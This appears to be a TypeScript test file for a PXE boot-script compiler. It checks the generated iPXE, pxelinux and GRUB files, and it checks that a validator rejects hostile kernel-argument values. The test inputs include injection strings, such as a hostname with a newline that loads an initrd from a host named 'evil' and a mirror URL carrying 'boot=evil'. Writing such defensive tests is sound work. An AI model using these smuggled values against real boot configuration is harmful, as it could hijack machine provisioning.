import assert from "node:assert/strict";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, it } from "node:test";
import { compile } from "../../../../compiler/index.js";
import { DirectoryTree } from "../../../../compiler/load/directory-tree.js";
import { kernelArg, UnsafeKernelArgumentError } from "../../../../compiler/resolve/boot-plan.js";
import { compileToDirectory } from "../../../helpers/compile-site.js";
import { fixtures, sampleSite } from "../../../helpers/paths.js";
import { siteWithRelayAndTwoNics } from "../../../helpers/site-variants.js";
import { copySite } from "../../../helpers/temp-dirs.js";

describe("PXE boot scripts", () => {
  it("every iPXE script starts with #!ipxe; boot.ipxe chains to the per-MAC script", async () => {
    const { files } = await compileToDirectory(sampleSite);
    const ipxe = files.filter((f) => f.path.endsWith(".ipxe"));
    assert.ok(ipxe.length >= 22);
    for (const f of ipxe) assert.ok(f.content.startsWith("#!ipxe\n"), f.path);
    const boot = files.find((f) => f.path === "pxe/boot.ipxe")!.content;
    assert.match(boot, /^chain --autofree http:\/\/192\.168\.100\.2\/ipxe\/\$\{mac:hexhyp\}\?serial=\$\{serial:uristring\}&uuid=\$\{uuid:uristring\} && exit \|\|$/m);
    assert.match(boot, /^isset \$\{oci-localboot\} && exit 1 \|\|$/m, "the local-boot script's exit is passed on to the firmware, not retried");
  });

  it("install: true gets the live image with install parameters; otherwise the local disk; unknown MACs get discovery", async () => {
    const { files } = await compileToDirectory(sampleSite);
    const text = (path: string) => files.find((f) => f.path === path)?.content ?? assert.fail(`no ${path}`);
    const install = text("pxe/ipxe/52-54-00-00-00-04.ipxe");
    assert.match(install, /^kernel http:\/\/192\.168\.100\.2\/live\/vmlinuz initrd=initrd\.img .*oci\.mode=install oci\.hostname=cl1-compute-1\.cl1\.example\.com oci\.role=compute oci\.puppet=puppet\.example\.com/m);
    assert.match(install, /^initrd --name initrd\.img http:\/\/192\.168\.100\.2\/live\/initrd\.img$/m);
    const local = text("pxe/ipxe/52-54-00-00-00-13.ipxe");
    assert.match(local, /^iseq \$\{platform\} efi \|\| sanboot --no-describe --drive 0x80 \|\|$/m, "cl1-volume-1 has install: false: BIOS boots its disk");
    assert.match(local, /^set oci-localboot 1\nexit 1$/m, "UEFI (or no disk) goes back to the firmware with an error, so it boots its next entry");
    assert.match(text("pxe/ipxe/default.ipxe"), /oci\.mode=discovery/);
    assert.match(text("pxe/pxelinux.cfg/01-52-54-00-00-00-04"), /^  APPEND initrd=live\/initrd\.img .*oci\.mode=install/m);
    assert.match(text("pxe/pxelinux.cfg/01-52-54-00-00-00-13"), /LOCALBOOT 0/);
    assert.match(text("pxe/pxelinux.cfg/default"), /oci\.mode=discovery/);
    assert.match(text("pxe/grub/grub.cfg-01-52-54-00-00-00-04"), /^  linux \/live\/vmlinuz .*oci\.mode=install/m);
    assert.match(text("pxe/grub/grub.cfg"), /oci\.mode=discovery/);
  });

  it("each boot MAC of a machine with two NICs gets its own files, named from the normalised MAC", async () => {
    const { files } = await compileToDirectory(await siteWithRelayAndTwoNics());
    const paths = new Set(files.map((f) => f.path));
    for (const id of ["52-54-00-10-00-01", "52-54-00-aa-bb-01"]) {
      assert.ok(paths.has(`pxe/ipxe/${id}.ipxe`), id);
      assert.ok(paths.has(`pxe/pxelinux.cfg/01-${id}`), id);
      assert.ok(paths.has(`pxe/grub/grub.cfg-01-${id}`), id);
    }
  });

  it("every file is listed in manifest.json", async () => {
    const { files } = await compileToDirectory(sampleSite);
    const manifest = JSON.parse(files.find((f) => f.path === "manifest.json")!.content) as { files: Record<string, string> };
    for (const f of files) if (f.path !== "manifest.json") assert.ok(manifest.files[f.path], f.path);
  });
});

describe("hostile values never reach a kernel command line", () => {
  const hostile = ["a b", 'a"b', "a'b", "${root}", "a\nb", "a\tb", "x{y}", "a$b", "a\\b", "a`b`"];

  it("kernelArg refuses spaces, quotes, expansions and control characters", () => {
    for (const value of hostile) assert.throws(() => kernelArg("oci.hostname", value), UnsafeKernelArgumentError, JSON.stringify(value));
    assert.throws(() => kernelArg("bad key", "x"), UnsafeKernelArgumentError);
    assert.deepEqual(kernelArg("oci.url", "http://10.0.0.1:8080/a?b=c&d=e"), { key: "oci.url", value: "http://10.0.0.1:8080/a?b=c&d=e" });
  });

  for (const [field, file, from, to] of [
    ["hostname", "clusters/c1/machines/c1-cmp-1.yaml", "hostname: c1-cmp-1", 'hostname: "c1-cmp-1 oci.role=controller"'],
    ["hostname with ${}", "clusters/c1/machines/c1-cmp-1.yaml", "hostname: c1-cmp-1", 'hostname: "${hostname}"'],
    ["hostname with newline", "clusters/c1/machines/c1-cmp-1.yaml", "hostname: c1-cmp-1", 'hostname: "c1\\ninitrd http://evil/x"'],
    ["puppet server with quote", "site.yaml", "server: puppet.lab.example.org", "server: 'puppet\"x.lab.example.org'"],
    ["cluster domain with space", "clusters/c1/cluster.yaml", "name: c1", "name: c1\ndomain: \"c1.lab example.org\""],
    ["mirror URL with space", "site.yaml", "provisioning:", "debian:\n  mirror: \"http://x/debian boot=evil\"\nprovisioning:"],
  ] as const) {
    it(`a ${field} is rejected by the schema before any script is written`, async () => {
      const site = await copySite(join(fixtures, "base-site"));
      const path = join(site, file);
      const text = await readFile(path, "utf8");
      assert.ok(text.includes(from));
      await writeFile(path, text.replace(from, to));
      const result = await compile({ tree: new DirectoryTree(site) });
      assert.equal(result.files, undefined);
      assert.ok(result.diagnostics.some((d) => d.code === "OCI1104" && d.file === file), JSON.stringify(result.diagnostics));
    });
  }
});
